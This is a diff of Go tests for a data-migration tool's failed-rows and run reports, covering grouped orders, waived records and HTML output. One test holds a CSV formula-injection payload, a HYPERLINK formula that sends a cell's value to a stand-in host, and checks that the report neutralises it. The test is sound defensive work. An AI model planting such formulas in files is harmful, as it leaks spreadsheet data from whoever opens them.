@@ -1,44 +1,16 @@
-package executor
+package report
 
 import (
 	"fmt"
-	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 
+	"github.com/migrate-tool/migrate/executor"
+	"github.com/migrate-tool/migrate/executor/executortest"
 	"github.com/migrate-tool/migrate/journal"
 	"github.com/migrate-tool/migrate/sandbox"
 )
-
-const groupedPlan = `version: 1
-name: grouped
-sources:
-  customers: {file: customers.csv}
-  parts: {file: parts.csv}
-  order_rows: {file: orders.csv}
-steps:
-  - name: customers
-    entity: CUSTOMERS
-    source: customers
-    fields: {CUSTNAME: row.Code, CUSTDES: row.Name}
-  - name: parts
-    entity: LOGPART
-    source: parts
-    fields: {PARTNAME: row.Part, PARTDES: row.Description}
-  - name: orders
-    entity: ORDERS
-    source: order_rows
-    when: row.Customer != "skip"
-    group_by: row.OrderNo
-    id: row.OrderNo
-    after: [customers, parts]
-    fields: {ORDNAME: row.OrderNo, CUSTNAME: row.Customer}
-    subforms:
-      - name: ORDERITEMS_SUBFORM
-        source: group
-        fields: {PARTNAME: row.Part, TQUANT: row.Qty}
-`
 
 // TestReportKeepsEveryRowOfAGroup: a grouped order that failed comes back
 // in the report with every one of its rows, each with its own problems,
@@ -48,49 +20,41 @@ steps:
 // was sent.
 func TestReportKeepsEveryRowOfAGroup(t *testing.T) {
 	t.Parallel()
-	env := newSandbox(t, sandbox.Options{})
-	dir := t.TempDir()
-	var orders strings.Builder
-	orders.WriteString("OrderNo,Customer,Part,Qty\n")
+	tg := executortest.NewTarget(t, sandbox.Options{})
+	var orders []string
 	// A1, 40 lines: its 17th names a part that does not exist.
 	for i := 0; i < 40; i++ {
 		p := []string{"P1", "P2"}[i%2]
 		if i == 16 {
 			p = "P9"
 		}
-		fmt.Fprintf(&orders, "A1,C1,%s,1\n", p)
+		orders = append(orders, fmt.Sprintf("A1,C1,%s,1", p))
 	}
 	// B1: its second line's quantity is not a number.
 	for _, q := range []string{"1", "x", "2"} {
-		fmt.Fprintf(&orders, "B1,C1,P2,%s\n", q)
+		orders = append(orders, fmt.Sprintf("B1,C1,P2,%s", q))
 	}
 	for i := 0; i < 5000; i++ {
-		fmt.Fprintf(&orders, "Z%d,skip,P1,1\n", i)
+		orders = append(orders, fmt.Sprintf("Z%d,skip,P1,1", i))
 	}
-	files := map[string]string{"plan.yaml": groupedPlan, "orders.csv": orders.String(),
-		"customers.csv": "Code,Name\nC1,Acme\n", "parts.csv": "Part,Description\nP1,Bolt\nP2,Nut\n"}
-	for name, body := range files {
-		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
-			t.Fatal(err)
-		}
+	o, sum := tg.Load(t, ordersFiles(2, true, orders...))
+	// What exists: A1 with its 39 good lines, numbered by the server.
+	a1 := tg.Entities("ORDERS", "DETAILS")["A1"]
+	if n := len(executortest.Lines(a1, "ORDERITEMS_SUBFORM")); a1 == nil || n != 39 {
+		t.Fatalf("A1 %v with %d lines", a1, n)
 	}
-	o, sum := applyDir(t, env, dir)
+	partly := fmt.Sprintf("ORDERS('%s') created with 39 of 40 lines", a1["ORDNAME"])
 	if s := stepOf(sum, "orders"); s.Failed != 2 || s.Skipped != 5000 || s.Partly != 1 {
 		t.Fatalf("orders %+v", s)
 	}
 	// A1 is partly loaded: its order and three lines exist; B1 is not.
 	for _, e := range sum.Errors {
-		if want := map[string]string{"A1": "ORDERS('A1') created with 39 of 40 lines"}[e.Record]; e.Partly != want {
+		if want := map[string]string{"A1": partly}[e.Record]; e.Partly != want {
 			t.Errorf("%s: partly %q, want %q", e.Record, e.Partly, want)
 		}
 	}
-	if st, err := Status(o.Journal); err != nil || stepOf(st, "orders").Partly != 1 {
+	if st, err := executor.Status(o.Journal); err != nil || stepOf(st, "orders").Partly != 1 {
 		t.Errorf("status: %v %+v", err, st)
-	}
-	// What exists: A1 with its three good lines.
-	a1 := env.entities("ORDERS", "ORDNAME")["A1"]
-	if n := len(lines(a1, "ORDERITEMS_SUBFORM")); a1 == nil || n != 39 {
-		t.Fatalf("A1 %v with %d lines", a1, n)
 	}
 	out := filepath.Join(t.TempDir(), "failed.csv")
 	n, _, err := Report(o.Journal, out)
@@ -107,7 +71,7 @@ func TestReportKeepsEveryRowOfAGroup(t *testing.T) {
 	for i := 0; i < 40; i++ {
 		w := []string{"A1", "C1", []string{"P1", "P2"}[i%2], "1", "orders", fmt.Sprintf("orders.csv:%d", i+2), "", "same record (A1) as orders.csv:18: partly loaded"}
 		if i == 16 {
-			w[2], w[6], w[7] = "P9", "ORDERITEMS_SUBFORM", `partly loaded (ORDERS('A1') created with 39 of 40 lines): ORDERITEMS_SUBFORM: Line 1- PARTNAME "P9" does not exist`
+			w[2], w[6], w[7] = "P9", "ORDERITEMS_SUBFORM", "partly loaded ("+partly+`): ORDERITEMS_SUBFORM: Line 1- PARTNAME "P9" does not exist`
 		}
 		want = append(want, w)
 	}
@@ -174,11 +138,66 @@ func TestReportLines(t *testing.T) {
 // a workbook cell gives its row, anything else stays as it is.
 func TestRowOfCell(t *testing.T) {
 	t.Parallel()
-	checkEach(t, "rowOfCell", rowOfCell, map[string]string{
+	for in, want := range map[string]string{
 		"book.xlsx!Orders!C17":     "book.xlsx!Orders!17",
 		"book.xlsx!My Sheet!AB3":   "book.xlsx!My Sheet!3",
 		"book.xlsx!Orders!17":      "book.xlsx!Orders!17",
 		"orders.csv:17":            "orders.csv:17",
 		"template:FAMILY_LOG('1')": "template:FAMILY_LOG('1')",
-	})
+	} {
+		if got := rowOfCell(in); got != want {
+			t.Errorf("rowOfCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// A failed row whose cells look like formulas comes back in the CSV report
+// with a leading apostrophe, so that opening the report runs nothing.
+func TestReportCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	tg := executortest.NewTarget(t, sandbox.Options{})
+	evil := `=HYPERLINK("http://example.invalid/?"&A1,"click")`
+	o, _ := tg.Load(t, ordersFiles(3, false, `O1,C1,"`+strings.ReplaceAll(evil, `"`, `""`)+`",1`))
+	out := filepath.Join(t.TempDir(), "failed.csv")
+	if n, _, err := Report(o.Journal, out); err != nil || n != 1 {
+		t.Fatalf("report %d %v", n, err)
+	}
+	rows := readCSV(t, out)
+	if rows[1][2] != "'"+evil {
+		t.Errorf("the formula cell came back as %q", rows[1][2])
+	}
+}
+
+// A waived record: the run report counts it and gives the reason; the
+// failed rows' file lists its row, waived.
+func TestReportOfAWaivedRecord(t *testing.T) {
+	t.Parallel()
+	tg := executortest.NewTarget(t, sandbox.Options{})
+	o, sum := tg.Load(t, ordersFiles(3, false, "O1,C1,P1,1", "O2,C1,P2,x"))
+	if sum.Complete || stepOf(sum, "orders").Failed != 1 {
+		t.Fatalf("apply: %+v", sum)
+	}
+	if _, err := executor.Waive(o.Journal, []executor.RecordRef{{Step: "orders", Record: "O2"}}, "the export's total line"); err != nil {
+		t.Fatal(err)
+	}
+	rep, err := RunReportOf(o.Journal)
+	if err != nil || !rep.Complete || rep.Total.Waived != 1 || len(rep.Waived) != 1 {
+		t.Fatalf("run report: %v %+v", err, rep)
+	}
+	var page strings.Builder
+	if err := WriteHTML(&page, rep); err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"every record is committed or skipped, 1 waived", `<th class="n">Waived</th>`, "the export&#39;s total line", `<table id="waived">`} {
+		if !strings.Contains(page.String(), want) {
+			t.Errorf("the page lacks %q", want)
+		}
+	}
+	out := filepath.Join(t.TempDir(), "failed.csv")
+	if n, waived, err := Report(o.Journal, out); err != nil || n != 1 || waived != 1 {
+		t.Fatalf("report --out: %d rows, %d waived, %v", n, waived, err)
+	}
+	if rows := readCSV(t, out); len(rows) != 2 || !strings.HasPrefix(rows[1][7], "waived: the export's total line (was: ") {
+		t.Errorf("report --out: %q", rows)
+	}
 }
